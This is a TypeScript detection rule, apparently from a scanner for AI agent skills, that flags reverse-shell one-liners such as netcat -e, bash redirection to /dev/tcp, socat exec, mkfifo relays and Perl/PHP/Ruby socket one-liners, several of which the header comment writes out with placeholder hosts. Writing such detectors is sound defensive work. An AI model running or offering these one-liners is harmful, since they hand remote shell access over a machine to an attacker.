// Reverse-shell one-liners as commands: `nc -e /bin/sh`, `bash -i >& /dev/tcp/h/p 0>&1`,
// `socat exec:…`, `mkfifo f; sh <f | nc h p >f`, `sh | nc`, and the Perl/PHP/Ruby socket one-liners.
// `nc -z host 443` (port check) and `cat < /dev/tcp/h/80` are not shells.

import type { Rule } from '../types.ts';
import { commandLine, hasFlag, programOf, type CommandFact } from './common/commands.ts';
import { weigh } from './common/context.ts';

const shells = /^(?:ba|z|k|da|tc|c|fi)?sh$|^(?:cmd|powershell|pwsh)$/;
const netcats = /^(?:nc|ncat|netcat|telnet)$/;
const oneLiner = /fsockopen|Socket::|TCPSocket\.(?:open|new)|IO::Socket|socket\(.*connect\(/i;

function shape(cmd: CommandFact, fifoLines: ReadonlySet<string>): string | undefined {
  const program = programOf(cmd);
  if (netcats.test(program)) {
    if (hasFlag(cmd, 'e', '--exec') || hasFlag(cmd, 'c', '--sh-exec')) return `${program} -e`;
    if ([cmd.pipedFrom, ...(cmd.pipedTo ?? [])].some((p) => p && shells.test(p.replace(/^.*\//, '')))) return `shell piped through ${program}`;
    if (fifoLines.has(`${cmd.file}:${cmd.line}`)) return `mkfifo with ${program}`;
  }
  // A shell whose output goes to a socket; `exec 3<>/dev/tcp/h/80` alone is bash's HTTP idiom.
  if (shells.test(program) && cmd.redirects?.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target) && r.op.includes('>'))) {
    return 'shell redirected to /dev/tcp';
  }
  if (program === 'socat' && /\b(?:exec|system):/i.test(commandLine(cmd)) && /\btcp[46]?(?:-connect|-listen)?:/i.test(commandLine(cmd))) return 'socat exec';
  if (/^(?:perl|php|ruby|python[\d.]*|lua|awk|gawk)$/.test(program) && oneLiner.test(commandLine(cmd)) && /\/bin\/(?:ba)?sh|\bexec\b|system\(|spawn/.test(commandLine(cmd))) return `${program} socket one-liner`;
  return undefined;
}

export const reverseShellCommand: Rule = {
  meta: {
    id: 'reverse-shell-command',
    category: 'reverse-shell',
    severity: 'critical',
    title: 'Reverse shell command',
    description: 'The skill runs a classic reverse-shell one-liner (netcat -e, /dev/tcp redirection, socat exec, mkfifo relay, interpreter socket one-liners).',
    references: ['https://attack.mitre.org/techniques/T1059/004/'],
    messages: { shell: 'Opens a reverse shell ({{how}}).' },
  },
  check(facts, context) {
    const fifoLines = new Set(facts.of('command').filter((c) => programOf(c) === 'mkfifo').map((c) => `${c.file}:${c.line}`));
    for (const cmd of facts.of('command')) {
      const how = shape(cmd, fifoLines);
      if (how) context.report({ messageId: 'shell', fact: cmd, severity: weigh('critical', cmd, context.skill), data: { how } });
    }
  },
};
